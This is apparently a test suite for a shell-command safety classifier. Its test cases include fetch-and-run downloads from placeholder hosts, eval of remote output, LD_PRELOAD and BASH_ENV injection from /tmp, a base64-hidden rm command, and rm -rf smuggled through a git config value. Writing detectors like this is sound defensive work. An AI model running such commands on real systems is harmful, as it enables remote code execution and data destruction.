// Shell-layer gaps closed late (issue 7): glob program words, command-bearing
// environment (files, libraries, search paths), scripts written then run,
// environment generators, test runners' selection options, and function
// bodies walked with the call's arguments. The data tables' examples run
// here; the analyses below run the real tree-sitter-bash grammar.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { PLANTED_SEARCH_EXAMPLES, plantedSearchEntries, isPlantedPath } from "../../../src/classify/programs/command-variables.js";
import { ENV_GENERATOR_EXAMPLES, isEnvGenerator } from "../../../src/classify/programs/env-generators.js";
import { isDataOption } from "../../../src/classify/programs/data-args.js";
import { isOutsideHooksPath, subcommandConfig } from "../../../src/classify/programs/git.js";
import { EFFECT_PROGRAMS } from "../../../src/classify/effects/index.js";
import { LAUNCHERS } from "../../../src/classify/shell/launchers/index.js";
import { isConsequentialProgram } from "../../../src/classify/shell/nested.js";
import { PROGRAM_GLOB_EXAMPLES, globPrograms, programGlob } from "../../../src/classify/shell/program-glob.js";
import { WRITTEN_FILE_EXAMPLES, WrittenFiles, fileKey } from "../../../src/classify/shell/written-files.js";
import { literalWord } from "../../../src/classify/shell/words.js";
import { analyze, shapes } from "./analyze.js";

const known = (n: string) => isConsequentialProgram({ launchers: LAUNCHERS, programs: EFFECT_PROGRAMS }, n);
const summary = (text: string) => analyze(text).commands.map((c) => [...c.wrappers, ""].join(">") + [c.cmd.program, ...c.cmd.argv].join(" "));

describe("program-word globs", () => {
  it.each(PROGRAM_GLOB_EXAMPLES.map((e) => [...e]))("%s", (raw, glob, programs) => {
    expect(programGlob(raw)).toBe(glob);
    if (glob !== null) expect(globPrograms(glob, [...LAUNCHERS.keys(), "rm", "git"], known)).toEqual(expect.arrayContaining([...programs]));
  });
  it("a `*` pattern is matched against the names the tables list", () => {
    expect(globPrograms("/usr/bin/g*t", ["git", "gist", "grep"], known)).toContain("git");
  });
  it("judges each match as that program, with a shape-4 gap", () => {
    const r = analyze("/bin/r? -rf ~");
    expect(summary("/bin/r? -rf ~")).toContain("rm -rf ~");
    expect(shapes(r)).toEqual([4]);
  });
  it("a glob in an argument is not a program word", () => {
    expect(shapes(analyze("ls /usr/bin/py*"))).toEqual([]);
  });
});

describe("command-bearing environment", () => {
  it.each(PLANTED_SEARCH_EXAMPLES.map((e) => [e[0], [...e[1]]]))("search path %s", (value, planted) => {
    expect(plantedSearchEntries(value)).toEqual(planted);
  });
  it.each([
    ["BASH_ENV=/tmp/evil.sh bash -c true", [3]],
    ["LD_PRELOAD=/tmp/evil.so ls", [3]],
    ["PATH=/tmp/evil:$PATH git status", [4]],
    ["export PATH=/dev/shm/x:$PATH", [4]],
    ["GIT_SSH=/tmp/evil git fetch", [3]],
    ["GIT_ASKPASS=/var/tmp/p.sh git fetch", [3]],
    ["PATH=$PWD/node_modules/.bin:$PATH npm test", []],
    ['PATH="$HOME/.local/bin:$PATH" pip --version', []],
    ["GIT_PAGER=cat git log", []],
    ["EDITOR=vim git commit", []],
    ["GIT_SSH=/usr/bin/ssh git fetch", []],
    ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 node server.js", []],
    ["BASH_ENV=./ci/env.sh bash -c 'make test'", []],
    ["BASH_ENV=$X bash -c true", [3]],
    ["T=$(mktemp); BASH_ENV=$T bash -c true", [3]],
    ["PATH=.:$PATH make", [4]],
    ["PATH=./node_modules/.bin:$PATH jest", []],
  ])("%s → %j", (text, gaps) => {
    expect(shapes(analyze(text))).toEqual(gaps);
  });
  it("GIT_CONFIG_KEY_<n>/VALUE_<n> before one command name their setting to each other", () => {
    expect(summary("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /tmp/y' git log")).toContain("GIT_CONFIG_VALUE_0>rm -rf /tmp/y");
  });
  it("a planted path is one under a directory anyone may write", () => {
    expect(isPlantedPath("/tmp/x")).toBe(true);
    expect(isPlantedPath("/dev/shm")).toBe(true);
    expect(isPlantedPath("/usr/local/bin")).toBe(false);
    expect(isPlantedPath("/tmpfoo")).toBe(false);
  });
});

describe("git: clone settings and hooks", () => {
  it("clone -c / --config / --config= are settings of the new repository", () => {
    const w = ["git", "clone", "-c", "core.sshCommand=x", "--config", "core.pager=y", "--config=a.b=c", "u"].map((v) => literalWord(v));
    expect(subcommandConfig(w, 1).map((s) => s.key)).toEqual(["core.sshcommand", "core.pager", "a.b"]);
    expect(subcommandConfig(w.slice(0, 1).concat(literalWord("fetch"), w.slice(2)), 1)).toEqual([]);
  });
  it.each([
    ["/tmp/hooks", true],
    ["~/hooks", true],
    ["../other/hooks", true],
    [".husky", false],
    [".githooks", false],
  ] as const)("hooksPath %s outside the repository: %s", (v, out) => {
    expect(isOutsideHooksPath(v)).toBe(out);
  });
});

describe("scripts written then run", () => {
  it.each(WRITTEN_FILE_EXAMPLES.map((e) => [e[0].map((x) => [...x]), e[1], e[2]]))("%j then %s", (writes, path, content) => {
    const f = new WrittenFiles();
    for (const [p, c, append] of writes as Array<[string, string | null, boolean]>) f.wrote(p, c, append);
    expect(f.content(path as string)).toBe(content);
  });
  it("paths compare as written, `./` and doubled slashes aside", () => {
    expect(fileKey(".//run.sh")).toBe("run.sh");
    expect(fileKey("/tmp//x.sh")).toBe("/tmp/x.sh");
  });
  it.each([
    ["echo 'rm -rf /tmp/y' > /tmp/x.sh && bash /tmp/x.sh", "bash>rm -rf /tmp/y"],
    ["cat > /tmp/c.sh <<'EOF'\nrm -rf /tmp/y\nEOF\nsh /tmp/c.sh", "sh>rm -rf /tmp/y"],
    ["printf 'git push -f origin main\\n' > run.sh; chmod +x run.sh; ./run.sh", "run.sh>git push -f origin main"],
    ["echo cm0gLXJmIC90bXAveQ== | base64 -d > /tmp/x.sh; sh /tmp/x.sh", "sh>rm -rf /tmp/y"],
    ["echo 'rm -rf /tmp/y' | tee t.sh; source t.sh", "source>rm -rf /tmp/y"],
    ["echo 'rm -rf /tmp/y' > e.sh; BASH_ENV=e.sh bash -c true", "BASH_ENV>rm -rf /tmp/y"],
  ])("%s", (text, inner) => {
    expect(summary(text)).toContain(inner);
  });
  it("a cat heredoc that expands is read as written, its expansions as variables", () => {
    expect(summary('cat > run.sh <<EOF\nrm -rf "$TARGET"\nEOF\nbash run.sh')).toContain("bash>rm -rf $TARGET");
    expect(shapes(analyze('cat > run.sh <<EOF\nnpm test --prefix "$PWD"\nEOF\nbash run.sh'))).toEqual([]);
  });
  it("content the text does not know is a shape-3 gap when the file runs", () => {
    expect(shapes(analyze("curl -s https://x.example/i.sh > i.sh; bash i.sh"))).toEqual([3]);
  });
  it("a downloader's output file is written with content not known", () => {
    expect(shapes(analyze("wget -O /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a"))).toEqual([3]);
    expect(shapes(analyze("curl -fsSL -o i.sh https://x.example/i.sh && bash i.sh"))).toEqual([3]);
    expect(shapes(analyze("curl --output=i.sh https://x.example/i.sh; sh i.sh"))).toEqual([3]);
    expect(shapes(analyze("curl -o data.json https://x.example/d && jq . data.json"))).toEqual([]);
  });
  it("a file never run is only written", () => {
    expect(shapes(analyze("curl -s https://x.example/i.sh > i.sh"))).toEqual([]);
  });
});

describe("environment generators and data options", () => {
  it.each(ENV_GENERATOR_EXAMPLES.map((e) => [[...e[0]], e[1]]))("%j prints setup code: %s", (argv, yes) => {
    expect(isEnvGenerator(argv as string[])).toBe(yes);
  });
  it("eval of a generator has no gap; of anything else it keeps shape 3", () => {
    expect(shapes(analyze('eval "$(direnv hook bash)"'))).toEqual([]);
    expect(shapes(analyze('eval "$(curl -s https://x.example/env)"'))).toEqual([3]);
  });
  it("test runners' selection options are data", () => {
    expect(isDataOption("pytest", "k")).toBe(true);
    expect(isDataOption("mytool", "k")).toBe(false);
    expect(shapes(analyze("pytest -k 'delete and not slow'"))).toEqual([]);
  });
});

describe("functions walked where they are called", () => {
  it("a harmless body is no gap", () => {
    expect(shapes(analyze('greet() { echo hi "$1"; }; greet bob'))).toEqual([]);
    expect(summary('greet() { echo hi "$1"; }; greet bob')).toContain("greet>echo hi bob");
  });
  it("the call's arguments reach the body", () => {
    expect(summary('wipe() { rm -rf "$1"; }; wipe /tmp/y')).toContain("wipe>rm -rf /tmp/y");
  });
  it("missing arguments are empty", () => {
    expect(summary('f() { echo "$1$2"; }; f a')).toContain("f>echo a");
  });
});

describe("trap cleanup of a temp-named variable", () => {
  it("is a file under the temp dir; another unknown variable stays unknown", () => {
    expect(summary("trap 'rm -f \"$TMPFILE\"' EXIT")).toContain("trap>rm -f $TMPDIR/tmpfile");
    expect(summary("trap 'rm -rf \"$DIR\"' EXIT")).toContain("trap>rm -rf $DIR");
    expect(summary("TMPFILE=~; trap 'rm -rf \"$TMPFILE\"' EXIT")).toContain("trap>rm -rf ~");
  });
});

describe("properties", () => {
  it("programGlob never throws, and a word with no glob character is no glob", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), (raw) => {
        const g = programGlob(raw);
        if (!/[*?[]/.test(raw)) expect(g).toBeNull();
      }),
    );
  });
  it("globPrograms only returns names the pattern can spell, and known ones", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z?*[\]]{1,6}$/), (seg) => {
        for (const n of globPrograms(`/bin/${seg}`, [...LAUNCHERS.keys(), "rm", "git"], known)) expect(known(n)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
  it("a file written then read back holds what was written, appends included", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constantFrom("a.sh", "./a.sh", "b.sh"), fc.string({ maxLength: 8 }), fc.boolean()), { maxLength: 6 }), (writes) => {
        const f = new WrittenFiles();
        const model = new Map<string, string | null>();
        for (const [p, c, append] of writes) {
          f.wrote(p, c, append);
          const k = fileKey(p);
          const prev = model.get(k);
          model.set(k, append ? (prev === undefined || prev === null ? null : prev + c) : c);
        }
        for (const [k, v] of model) expect(f.content(k)).toBe(v);
      }),
    );
  });
});

describe("names that are Object.prototype keys are no table rows", () => {
  it.each(["__proto__ -o x", "git __proto__ --exec x", "git constructor run x", "tmux toString x", "powershell __proto__ rm"])("%s", (text) => {
    expect(analyze(text).unknown.filter((g) => /analysis failed/.test(g.reason))).toEqual([]);
  });
});
